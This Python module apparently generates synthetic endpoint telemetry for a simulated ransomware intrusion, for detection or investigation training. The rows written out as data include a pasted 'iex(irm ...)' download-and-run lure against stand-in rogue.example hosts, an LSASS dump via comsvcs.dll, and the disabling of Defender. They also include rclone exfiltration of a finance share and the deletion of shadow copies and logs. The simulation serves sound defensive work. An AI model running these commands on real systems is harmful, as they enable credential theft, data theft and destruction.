"""A Windows client whose user pasted a command, and the file server that was encrypted for it."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta
from typing import TYPE_CHECKING

from sandbox.telemetry.traces import Process
from sandbox.tenant.evidence import device, file, incident, ip, process, url

from .intrusion import Intrusion

if TYPE_CHECKING:
    from sandbox.telemetry.engine import Row

PC, FILES = "pc-006.contoso.com", "win-2.contoso.com"
PC_IP, FILES_IP = "10.0.0.28", "10.0.0.38"
SITE, LURE_IP = "verify.rogue.example", "203.0.113.120"
BEACON, BEACON_IP = "cdn-sync.rogue.example", "203.0.113.121"
STORE, STORE_IP = "store.rogue.example", "203.0.113.122"
IMPLANT = r"C:\Users\user29\AppData\Roaming\Contrail\ctrlsync.exe"
SERVICE = r"C:\Windows\kXrTbqLm.exe"
_RUN = r"HKEY_CURRENT_USER\S-1-5-21-1004336348-1177238915-682003330-1042\SOFTWARE\Microsoft\Windows\CurrentVersion"
_SERVICES = r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services"


def ransom(end: datetime) -> Intrusion:
    """A user pastes a command; two stages later the file server is emptied, and cannot be restored."""
    at = end - timedelta(minutes=115)
    rows = [*_pasted(at), *_credentials(at), *_moved(at), *_hidden(at), *_taken(at)]
    last = rows[-1][1]["Timestamp"]
    command = rows[2][1]["ProcessCommandLine"]
    return Intrusion(
        "ransom",
        incident(
            4108, "Hands-on-keyboard attack on pc-006 and win-2", "high", "Ransomware", at, last,
            device(PC, "Windows11"),
            device(FILES, "WindowsServer2022"),
            url(f"https://{SITE}/c", "malicious"),
            ip(BEACON_IP, "malicious"),
            process(PC, at, "powershell.exe", command, "user29", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"),
            file(PC, IMPLANT.rpartition("\\")[0], "ctrlsync.exe", str(rows[4][1]["SHA1"]), "malicious"),
        ),
        rows,
    )  # fmt: skip


# Rows read best one per line.
# fmt: off


def _pasted(at: datetime) -> list[tuple[str, Row]]:
    """The command, what it fetches, what that leaves behind, and a first look around."""
    def after(**span: int) -> datetime:
        return at + timedelta(**span)

    pasted = f'powershell -w h -nop -c "iex(irm https://{SITE}/c)" # I am not a robot - verification ID 4471'
    script = f'$p="$env:APPDATA\\Contrail";md $p -f|Out-Null;iwr https://{SITE}/s -OutFile $p\\ctrlsync.exe;saps $p\\ctrlsync.exe'
    task = f'schtasks /create /tn "Contrail Sync" /tr "{IMPLANT} /q" /sc minute /mo 30 /f'
    explorer = _pc("explorer", r"C:\Windows\Explorer.EXE")
    lure = _pc("powershell", pasted, explorer)
    stage = _pc("powershell", f"powershell.exe -nop -w hidden -enc {_encoded(script)}", lure)
    implant = _pc(IMPLANT, f'"{IMPLANT}"', stage)
    shell = _pc("cmd", r"C:\Windows\System32\cmd.exe", implant)
    creation = _pc("schtasks", task, implant)
    return [
        explorer.set_value(at, f"{_RUN}\\Explorer\\RunMRU", "a", f"{pasted}\\1"),
        lure.connected(after(seconds=3), LURE_IP, 443, SITE),
        lure.started(after(seconds=1)),
        stage.started(after(seconds=6)),
        stage.wrote(after(seconds=9), IMPLANT, FileOriginUrl=f"https://{SITE}/s", FileOriginIP=LURE_IP),
        stage.did(after(seconds=7), "AmsiScriptContent", {"ScriptContent": script}),
        stage.did(after(seconds=8), "PowerShellCommand", {"Command": "Invoke-WebRequest"}),
        stage.connected(after(seconds=8), LURE_IP, 443, SITE),
        implant.started(after(seconds=11)),
        implant.did(after(seconds=12), "DnsQueryResponse", {"DnsQueryString": BEACON, "DnsQueryResult": f'[{{"DnsQueryType":"A","Result":"{BEACON_IP}"}}]'}),
        *(implant.connected(after(minutes=n), BEACON_IP, 443, BEACON) for n in (1, 6, 11, 16, 21, 26, 31, 41, 51)),
        implant.set_value(after(seconds=20), f"{_RUN}\\Run", "ContrailSync", f'"{IMPLANT}" /q'),
        creation.started(after(seconds=24)),
        creation.did(after(seconds=25), "ScheduledTaskCreated", {"TaskName": "\\Contrail Sync", "SubjectUserName": "user29", "TaskContent": f"<Exec><Command>{IMPLANT}</Command><Arguments>/q</Arguments></Exec>"}),
        shell.started(after(minutes=7)),
        *(_pc(name, command, shell).started(after(minutes=7, seconds=second)) for name, command, second in (
            ("whoami", "whoami /all", 4), ("systeminfo", "systeminfo", 15), ("ipconfig", "ipconfig /all", 21), ("nltest", "nltest /domain_trusts /all_trusts", 33),
            ("net", 'net group "Domain Admins" /domain', 47), ("net", "net view /all /domain", 58), ("quser", "quser", 66),
        )),
    ]


def _credentials(at: datetime) -> list[tuple[str, Row]]:
    """The memory of LSASS is written to a file by a library of Windows."""
    dumped = r"C:\ProgramData\thumbs.dat"
    implant = _pc(IMPLANT, f'"{IMPLANT}" /q', level="High")
    shell = _pc("cmd", f"cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 892 {dumped} full", implant, level="High")
    dump = _pc("rundll32", f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 892 {dumped} full", shell, level="High")
    moment = at + timedelta(minutes=22)
    lsass = r"C:\Windows\System32\lsass.exe"
    return [
        shell.started(moment),
        dump.started(moment + timedelta(seconds=1)),
        dump.loaded(moment + timedelta(seconds=1), r"C:\Windows\System32\comsvcs.dll"),
        dump.did(moment + timedelta(seconds=2), "OpenProcessApiCall", {"DesiredAccess": 2097151}, FolderPath=lsass, ProcessCommandLine="lsass.exe"),
        dump.did(moment + timedelta(seconds=2), "ReadProcessMemoryApiCall", {"TotalBytesCopied": 61_204_480}, FolderPath=lsass, ProcessCommandLine="lsass.exe"),
        dump.wrote(moment + timedelta(seconds=3), dumped),
    ]


def _moved(at: datetime) -> list[tuple[str, Row]]:
    """An administrator's account, from the client, installs a service on the server, whose name says nothing."""
    moment = at + timedelta(minutes=34)
    lsass, system, services = (_server(name, name) for name in ("lsass", "System", "services"))
    implant = _pc(IMPLANT, f'"{IMPLANT}" /q', level="High")
    planted = _server(SERVICE, SERVICE, services)
    return [
        implant.connected(moment, FILES_IP, 445, FILES, kind="Private"),
        system.connected(moment, PC_IP, 50_412, action="InboundConnectionAccepted", kind="Private", local_port=445),
        lsass.logged_on(moment, "Network", PC_IP, "pc-006", AccountName="adm-user4", AccountDomain="contoso", Protocol="NTLM", RemoteIPType="Private", IsLocalAdmin=True),
        system.wrote(moment + timedelta(seconds=1), SERVICE, RequestAccountName="adm-user4", RequestAccountDomain="contoso", RequestSourceIP=PC_IP, RequestProtocol="SMB", ShareName="ADMIN$"),
        services.did(moment + timedelta(seconds=2), "ServiceInstalled", {"ServiceName": "kXrTbqLm", "ServiceAccount": "LocalSystem", "ServiceStartType": "3", "ServiceType": "0x10"}, FolderPath=SERVICE, ProcessCommandLine=SERVICE),
        services.set_value(moment + timedelta(seconds=2), f"{_SERVICES}\\kXrTbqLm", "ImagePath", SERVICE, "ExpandString"),
        planted.started(moment + timedelta(seconds=3)),
        planted.did(moment + timedelta(seconds=4), "NamedPipeEvent", {"PipeName": "\\Device\\NamedPipe\\kXrTbqLm-stdin", "FileOperation": "File created", "NamedPipeEnd": "Server", "RemoteClientsAccess": "AcceptRemote"}),
        planted.connected(moment + timedelta(seconds=30), BEACON_IP, 443, BEACON),
    ]


def _hidden(at: datetime) -> list[tuple[str, Row]]:
    """Defender is told to look away."""
    moment = at + timedelta(minutes=41)
    planted = _server(SERVICE, SERVICE)
    shell = _server("powershell", r"powershell.exe -ep bypass -c Add-MpPreference -ExclusionPath C:\ProgramData; Set-MpPreference -DisableRealtimeMonitoring $true", planted)
    defender = _server("MsMpEng", '"MsMpEng.exe"')
    return [
        shell.started(moment),
        shell.did(moment + timedelta(seconds=1), "PowerShellCommand", {"Command": "Add-MpPreference"}),
        defender.set_value(moment + timedelta(seconds=2), r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths", r"C:\ProgramData", "0", "Dword"),
        defender.set_value(moment + timedelta(seconds=3), r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection", "DisableRealtimeMonitoring", "1", "Dword"),
    ]


def _taken(at: datetime) -> list[tuple[str, Row]]:
    """The finance share is packed, and sent by a renamed tool; then copies and logs are destroyed, and files encrypted."""
    packed = r"C:\ProgramData\fin.7z"
    planted = _server(SERVICE, SERVICE)
    shell = _server("cmd", "cmd.exe", planted)
    pack = _server("7z", rf"7z.exe a -mx1 -mhe=on -pK0rt9 -v2g {packed} D:\Shares\finance", shell)
    send = _server(r"C:\ProgramData\svhost.exe", r"C:\ProgramData\svhost.exe copy C:\ProgramData\ vault:win2 --include fin.7z* --transfers 16 --config C:\ProgramData\c.ini", shell, original="rclone.exe")
    crypt = _server(r"C:\ProgramData\wlocker.exe", r"C:\ProgramData\wlocker.exe -path D:\Shares -fast", shell)
    destroyed = (
        ("vssadmin", "vssadmin.exe delete shadows /all /quiet"), ("wmic", "wmic shadowcopy delete"), ("bcdedit", "bcdedit /set {default} recoveryenabled no"),
        ("wbadmin", "wbadmin delete catalog -quiet"), ("wevtutil", "wevtutil cl Security"),
    )
    return [
        shell.started(at + timedelta(minutes=46)),
        pack.started(at + timedelta(minutes=47)),
        pack.wrote(at + timedelta(minutes=51), f"{packed}.001"),
        send.started(at + timedelta(minutes=58)),
        send.connected(at + timedelta(minutes=58, seconds=4), STORE_IP, 443, STORE),
        *(_server(name, command, shell).started(at + timedelta(minutes=80, seconds=9 * n)) for n, (name, command) in enumerate(destroyed)),
        _server("wevtutil", "wevtutil cl Security", shell).did(at + timedelta(minutes=80, seconds=37), "SecurityLogCleared"),
        crypt.started(at + timedelta(minutes=83)),
        *(crypt.wrote(at + timedelta(minutes=83, seconds=2 + n), rf"D:\Shares\finance\report-{n}.xlsx.wlk", "FileRenamed", PreviousFileName=f"report-{n}.xlsx", PreviousFolderPath=r"D:\Shares\finance") for n in range(12)),
        crypt.wrote(at + timedelta(minutes=84), r"D:\Shares\finance\HOW_TO_RESTORE.txt"),
    ]


# fmt: on


def _pc(program: str, command: str, parent: Process | None = None, level: str = "") -> Process:
    return Process(PC, "windows", program, command, "user29", parent, level=level)


def _server(program: str, command: str, parent: Process | None = None, original: str = "") -> Process:
    return Process(FILES, "windows", program, command, "system", parent, original)


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()
